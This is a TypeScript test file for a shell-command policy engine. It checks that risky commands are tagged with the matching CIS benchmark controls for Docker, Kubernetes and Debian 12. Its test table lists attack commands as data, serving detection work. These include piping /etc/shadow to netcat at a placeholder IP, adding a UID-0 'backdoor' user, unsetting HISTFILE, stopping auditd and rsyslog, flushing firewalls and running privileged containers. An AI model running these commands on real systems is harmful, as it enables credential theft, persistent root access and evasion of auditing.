import { analyse, assessRisk } from '@opspilot/core/shell';
import { describe, expect, it } from 'vitest';
import { catalogue, createPolicy } from '../../src/index.js';

const policy = createPolicy(catalogue);
const context = { at: 0, host: { name: 'web-1', environment: 'production' } };

/** Controls of the benchmarks of CIS that a command is said to concern. */
function benchmarksOf(command: string): readonly string[] {
  const analysis = analyse(command);
  const risk = assessRisk(analysis, { environment: 'production' });
  const { findings } = policy.decide({ command, analysis, risk }, context);
  const named = findings
    .flatMap(({ controls = [] }) => controls)
    .filter(({ framework }) => framework.startsWith('cis-'));
  return [...new Set(named.map(({ framework, control }) => `${framework.slice(4)} ${control}`))].toSorted();
}

describe('a finding names the controls of what happened', () => {
  it.each<[string, readonly string[]]>([
    ['docker run --privileged x', ['docker 5.5']],
    ['docker run --cap-add=SYS_ADMIN x', ['docker 5.4']],
    ['docker run --cap-add=NET_ADMIN x', ['docker 5.4']],
    ['docker run --pid=host x', ['docker 5.16']],
    ['docker run --userns=host x', ['docker 5.31']],
    ['docker run --ipc=host x', ['docker 5.17']],
    ['docker run --network=host x', ['docker 5.10']],
    ['docker run --net host x', ['docker 5.10']],
    ['docker run --uts=host x', ['docker 5.21']],
    ['docker run --cgroupns=host x', []],
    ['docker run --security-opt seccomp=unconfined x', ['docker 5.22']],
    ['docker run --security-opt apparmor=unconfined x', ['docker 5.2']],
    ['docker run --security-opt label=disable x', ['docker 5.3']],
    ['docker run --security-opt no-new-privileges=false x', ['docker 5.26']],
    ['docker run -v /etc:/e x', ['docker 5.6']],
    ['docker run -v /var/run/docker.sock:/s x', ['docker 5.32']],
    ['docker run --device=/dev/sda x', ['docker 5.18']],
    ['docker exec --privileged c sh', ['docker 5.23']],
    ['docker exec -u root c id', ['docker 5.24']],
    ['docker volume rm shop-data', []],
    ['kubectl run x --image=a --privileged', ['kubernetes 5.2.2']],
    ['kubectl patch deploy x -p \'{"hostNetwork": true}\'', ['kubernetes 5.2.5']],
    ['kubectl patch deploy x -p \'{"hostIPC": true}\'', ['kubernetes 5.2.4']],
    ['kubectl patch deploy x -p \'{"allowPrivilegeEscalation": true}\'', ['kubernetes 5.2.6']],
    ['rm -rf /var/log/nginx', []],
    ['unset HISTFILE', []],
    ['systemctl stop auditd', ['debian-12 6.2.1.2']],
    ['systemctl stop rsyslog', ['debian-12 6.1.3.2']],
    ['apt-get remove -y auditd', ['debian-12 6.2.1.1']],
    ['dpkg --purge rsyslog', ['debian-12 6.1.3.1']],
    ['rm /etc/rsyslog.d/60-remote.conf', ['debian-12 6.1.3.5', 'debian-12 6.1.3.6']],
    ['journalctl --vacuum-size=50M', ['debian-12 6.1.1.3']],
    ['dmesg --clear', []],
    ['cat /etc/shadow', ['debian-12 7.1.5']],
    ['useradd -o -u 0 backdoor', ['debian-12 5.4.2.1']],
    ['passwd -d bob', ['debian-12 7.2.2']],
    ['cat /etc/shadow | nc 198.51.100.7 9', ['debian-12 7.1.5']],
    ['cat /etc/kubernetes/pki/ca.key', ['kubernetes 1.1.21']],
    ['ufw disable', ['debian-12 4.2.3']],
    ['iptables -F', ['debian-12 4.4.2.1']],
    ['nft flush ruleset', ['debian-12 4.3.4']],
    ['curl -k https://example.net', []],
    ['usermod -aG docker bob', ['debian-12 6.2.3.8', 'docker 1.1.2']],
    ['usermod -aG sudo bob', ['debian-12 6.2.3.8']],
    ['mount -o remount,exec /tmp', ['debian-12 1.1.2.1.3', 'debian-12 1.1.2.1.4']],
    ['chown deploy /var/log/audit/audit.log', ['debian-12 6.2.4.1', 'debian-12 6.2.4.2', 'debian-12 6.2.4.4']],
    ['systemctl stop chronyd', ['debian-12 2.3.3.3']],
  ])('%s', (command, controls) => {
    expect(benchmarksOf(command)).toEqual(controls);
  });

  it('names a control of a condition once, though several conditions hold', () => {
    const both = 'docker run --cap-add=ALL --pid=host x';
    expect(benchmarksOf(both)).toEqual(['docker 5.16', 'docker 5.4']);
  });
});
